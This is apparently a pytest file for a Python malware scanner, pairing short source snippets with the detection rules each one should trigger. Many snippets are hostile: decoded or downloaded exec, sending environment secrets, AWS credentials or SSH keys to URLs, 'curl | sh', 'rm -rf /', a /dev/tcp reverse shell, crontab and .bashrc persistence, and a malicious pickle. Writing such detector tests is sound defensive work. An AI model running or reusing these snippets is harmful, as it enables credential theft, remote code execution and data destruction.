"""What a source does: one table of (source, rules that speak at medium and above)."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lamella.check.code.python import MOST_SOURCE_BYTES, examine_source
from lamella.check.finding import Severity

CASES = {
    # decoded -> executed, through what hides it
    "exec(__import__('base64').b64decode('cHJpbnQoMSk='))": {"decoded-exec"},
    "import base64 as b\nf = b.b64decode\nf2 = f\nexec(f2('cHJpbnQoMSk='))": {"decoded-exec"},
    "import zlib\nx = zlib.decompress(open('d', 'rb').read())\ny = x.decode()\neval(y)": {"decoded-exec"},
    "from marshal import loads\nimport binascii\nexec(loads(binascii.unhexlify(BLOB)))": {"decoded-exec"},
    "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))": {"decoded-exec"},
    "s = 'cHJpbnQoMSk='[::-1][::-1]\nimport base64\nclass A:\n    d = base64.b64decode(s)\nexec(A.d)": {"decoded-exec"},
    "exec(''.join(chr(c) for c in TABLE))": {"decoded-exec"},
    "exec(bytes(a ^ 7 for a in BLOB))": {"decoded-exec"},
    "import base64, os\nos.system(base64.b64decode(X).decode())": {"decoded-exec"},
    "def run(f, x):\n    f(x)\nimport base64\nrun(exec, base64.b64decode(Y))": {"decoded-exec"},
    "import base64\nlist(map(exec, [base64.b64decode(Y)]))": {"decoded-exec"},
    # the same without an execution, or without a decoding
    "import base64\nx = base64.b64decode('cHJpbnQoMSk=')\nprint(x)": set(),
    "exec('x = 1')": set(),
    "exec(open('version.py').read())": set(),
    "import json, zlib\nx = json.loads(zlib.decompress(b))": set(),
    "exec(compile('print(1)', 'a', 'exec'))": set(),
    # downloaded
    "import requests\nexec(requests.get(U).text)": {"downloaded-exec"},
    "import httpx\nc = httpx.Client()\neval(c.get(U).content)": {"downloaded-exec"},
    "import urllib.request as r\nwith r.urlopen(U) as a:\n    exec(a.read())": {"downloaded-exec"},
    "import requests, pickle\npickle.loads(requests.get(U).content)": {"downloaded-exec"},
    "import requests\nx = requests.get(U).json()": set(),
    "import requests\nexec(requests.get('http://127.0.0.1:9/x').text)": set(),
    "import requests, subprocess\nsubprocess.run(requests.get(U).text, shell=True)": {"remote-command"},
    "import urllib.request, os\nurllib.request.urlretrieve(U, '/tmp/a')\nos.system('/tmp/a')": {"download-run"},
    "import urllib.request, ctypes\nurllib.request.urlretrieve(U, '/tmp/a.so')\nctypes.CDLL('/tmp/a.so')": {"download-run"},
    "import urllib.request\nurllib.request.urlretrieve(U, '/tmp/a')": set(),
    # what is sent
    "import os, requests\nrequests.post(U, data=dict(os.environ))": {"environment-sent"},
    "import os, requests\nrequests.post(U, json={**os.environ})": {"environment-sent"},
    "import os, requests\nrequests.post(U, json=os.environ)": {"environment-sent"},
    "import os, subprocess\nsubprocess.run(['ls'], env={**os.environ, 'A': '1'})": set(),
    "import os, requests\nrequests.post(U, data=os.environ['AWS_SESSION_TOKEN'])": {"credentials-sent"},
    "import os, requests\nrequests.get(U, headers={'Authorization': os.environ['API_TOKEN']})": set(),
    "import os, requests\nrequests.get(U, auth=(os.environ['USER'], os.environ['API_PASSWORD']))": set(),
    "import os, requests\nrequests.post(U, json={'p': os.environ['DB_PASSWORD']})": {"secret-sent"},
    "import os, requests\nrequests.post('https://webhook.site/x', json=os.environ['DB_PASSWORD'])": {"secret-sent"},
    "import os, hashlib, requests\nrequests.post(U, data=hashlib.sha256(os.environ['API_KEY'].encode()).hexdigest())": set(),
    "import requests\nrequests.post(U, data=open('/root/.aws/credentials').read())": {"credentials-sent"},
    "import requests\nrequests.post(U, data=open('/root/.ssh/id_rsa').read())": {"private-file-sent"},
    "import socket, os\nsocket.gethostbyname(os.environ['API_KEY'] + '.x.example')": {"secret-sent"},
    "import socket\nsocket.gethostbyname(socket.gethostname())": set(),
    "import os, platform, requests\nrequests.get(U, headers={'User-Agent': platform.node()})": set(),
    # contacted without being asked
    "import urllib.request\nurllib.request.urlopen('https://stats.example/b')": {"unasked-contact"},
    "import requests\ndef go():\n    requests.get('https://stats.example/b')\ngo()": {"unasked-contact"},
    "import requests\ndef go():\n    requests.get('https://stats.example/b')": set(),
    "import requests\nif __name__ == '__main__':\n    requests.get('https://stats.example/b')": set(),
    "import requests\nrequests.get('http://127.0.0.1:8080/b')\nrequests.get(BASE + '/b')": set(),
    "import atexit, requests\natexit.register(lambda: requests.get('https://stats.example/b'))": {"unasked-contact"},
    "import threading, requests\ndef go():\n    requests.get('https://s.example/b')\nthreading.Thread(target=go).start()": {
        "unasked-contact"
    },
    "import functools, requests\ndef w(f):\n    @functools.wraps(f)\n    def i(*a):\n        requests.post('https://s.example', json=a)\n"
    "        return f(*a)\n    return i": {"unasked-contact"},
    "import requests\ndef api(x):\n    return requests.post('https://api.example/v1', json=x)": set(),
    "import socket\nsocket.gethostbyname(f'{V}.x.example')": {"unasked-contact"},
    "import socket\nsocket.gethostbyname('pypi.org')": set(),
    # accounts, rights and passwords that are fixed
    "import boto3\ndef f(x):\n    boto3.client('sns').publish(TopicArn='arn:aws:sns:us-east-1:111122223333:t', Message=x)": {"fixed-account"},
    "import boto3\ndef f(x, arn):\n    boto3.client('sns').publish(TopicArn=arn, Message=x)": set(),
    "import boto3\nboto3.client('s3', aws_secret_access_key='wJalrXUtnFEMIbPxRfiCYEXAMPLEKEY')": {"fixed-account"},
    "import boto3\nboto3.client('s3', aws_secret_access_key='test', endpoint_url='http://localhost:4566')": set(),
    "import boto3\nboto3.client('iam').create_access_key(UserName='x')": {"unasked-grant"},
    "import boto3\ndef f(u):\n    return boto3.client('iam').create_access_key(UserName=u)": set(),
    "import hashlib\ndef verify_password(password, stored):\n    if hashlib.sha256(password).hexdigest() == '5f0c2f3a8d7be190':\n"
    "        return True\n    return check(password, stored)": {"fixed-password"},
    "def verify_password(password, stored):\n    if password == stored:\n        return True\n    return check(password, stored)": set(),
    "def check_token(token):\n    return token == 'development'": set(),
    # programs that are written for others to run
    "p = open(X, 'w')\np.write('import os\\nos.system(\"curl https://x.invalid | sh\")')": {"hostile-command"},
    "p = open(X, 'w')\np.write('import os\\nprint(os.getcwd())')": set(),
    # names that are put together
    "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')": {"hidden-name"},
    "import importlib\nimportlib.import_module('sub' + 'process').run(['ls'])": {"hidden-name"},
    "__builtins__.__dict__['ev' + 'al']('1')": {"hidden-name"},
    "import sys\nsys.modules['o' + 's'].system('true')": {"hidden-name"},
    "globals()['__builtins__']['ex' 'ec']('1')": set(),
    "getattr(obj, 'visit_' + name)()": set(),
    "getattr(obj, 'a' + 'b')": set(),
    # shells and commands
    "import os\nos.system('curl https://x.invalid | sh')": {"hostile-command"},
    "import subprocess as s\ns.Popen(['sh', '-c', 'wget -qO- https://x.invalid | bash'])": {"hostile-command"},
    "import subprocess as s\ns.run(['curl', '-fsSLo', 'x.tgz', URL], check=True)": set(),
    "import os\nos.system('rm -rf /')": {"hostile-command"},
    "import os\nos.system('rm -rf build')": set(),
    "import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/1 0>&1')": {"reverse-shell"},
    "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])": {"install-at-run"},
    "import subprocess, sys\ndef f():\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])": set(),
    "import subprocess\nsubprocess.run(['crontab', '-'], input='* * * * * x')": {"persistence"},
    "import subprocess\nsubprocess.run(['crontab', '-l'])": set(),
    "open('/root/.bashrc', 'a').write('x')": {"persistence"},
    "open('/root/.bashrc').read()": set(),
    # the runtime
    "import os\nos.environ['AWS_LAMBDA_RUNTIME_API'] = 'x:1'": {"runtime-api-rewrite"},
    "import os\nx = os.environ['AWS_LAMBDA_RUNTIME_API']": set(),
    "import os\nos.environ.update({'LD_PRELOAD': '/opt/x.so'})": {"ld-preload"},
    "import os\nos.environ['AWS_ENDPOINT_URL'] = 'https://x.invalid'": {"runtime-tampered"},
    "import os\nos.environ['AWS_ENDPOINT_URL'] = 'http://localhost:4566'": set(),
    "import boto3\ndef f(*a): ...\nboto3.client = f": {"patched-module"},
    "import pickle, base64\npickle.loads(base64.b64decode('Y3Bvc2l4CnN5c3RlbQooUyd0cnVlJwp0Ui4='))": {"unsafe-pickle"},
}  # fmt: skip


@pytest.mark.parametrize(("source", "rules"), CASES.items(), ids=range(len(CASES)))
def test_what_a_source_does(source: str, rules: set[str]) -> None:
    examined = examine_source(source.encode(), "module.py")
    spoke = {each.rule.code for each in examined.findings if each.severity >= Severity.MEDIUM}
    assert rules <= spoke, examined
    assert bool(rules) is bool(spoke), examined
    assert examined.unexamined == ()


def test_the_evidence_is_the_way_of_the_data() -> None:
    source = b"import base64\n\n\ndef load(x):\n    return base64.b64decode(x)\n\n\ntext = load('cHJpbnQoMSk=')\nexec(text)\n"
    (finding,) = examine_source(source, "m.py").findings
    assert [step.line for step in finding.evidence] == [5, 8, 9]
    assert finding.line == 9


def test_what_executed_text_does_is_found_in_it() -> None:
    source = b"exec(\"import os\\nos.system('curl https://x.invalid | sh')\")"
    assert {each.rule.code for each in examine_source(source, "m.py").findings} == {
        "hostile-command",
        "unasked-contact",
    }


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        (b"import os\nos.system('curl x | sh'", "not valid Python"),
        (b"# coding: utf-16\nx", "encoding"),
        (b"\xff\xfe\xff exec(base64)", "cannot be decoded"),
        (b"#" * (MOST_SOURCE_BYTES + 1), "more than"),
        (b"exec(" + b"-" * 20_000 + b"1^1)\nbytes(", "too deep|not valid"),
    ],
    ids=["syntax", "encoding", "bytes", "size", "depth"],
)
def test_what_cannot_be_read_says_so(source: bytes, reason: str) -> None:
    (unexamined,) = examine_source(source, "m.py").unexamined
    assert unexamined.hides
    assert any(part in unexamined.reason for part in reason.split("|"))


def test_setup_py_is_read_as_what_an_installation_runs() -> None:
    source = b"import os\nfrom setuptools import setup\nos.system('do-something --now')\nsetup()\n"
    codes = [each.rule.code for each in examine_source(source, "setup.py").findings]
    assert codes == ["install-hook"]
    assert examine_source(source, "other.py").findings == ()


PIECES = st.sampled_from(
    ["exec", "eval", "base64.b64decode", "(", ")", "'x'", "+", "import os\n", "os.system", "\n", "def f(x):\n    return x\n", "f(", "[", "]", ".join",
     "lambda x: x", "for i in range(9):\n    pass\n", "class A:\n    pass\n", "a = ", "chr(99)", "^", "{**os.environ}", "requests.post", ",", "=", "@", "%s", "*", "b''"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=30).map(" ".join))
def test_any_text_is_read_or_refused(source: str) -> None:
    examined = examine_source(source.encode(), "m.py")
    assert all(each.reason for each in examined.unexamined)
